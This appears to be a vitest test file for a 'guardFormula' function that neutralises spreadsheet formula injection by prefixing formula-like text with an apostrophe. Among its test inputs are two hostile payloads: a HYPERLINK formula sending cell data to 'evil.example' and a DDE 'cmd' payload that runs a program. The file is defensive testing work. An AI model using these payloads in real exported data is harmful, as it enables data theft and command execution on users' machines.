import { expect, test } from 'vitest'
import { guardFormula } from './guard-formula.ts'

test.each([
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\ufeff=1',
  '＝1',
  '\u00a0@A1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '=cmd|" /C calc"!A0',
])('text that begins like a formula is guarded: %j', (text) => {
  expect(guardFormula(text)).toBe(`'${text}`)
})

test.each(['', 'point-query', '17.6', 'a=b', 'l.i0', "'=1", '#1', '1-2'])('other texts stay: %j', (text) => {
  expect(guardFormula(text)).toBe(text)
})
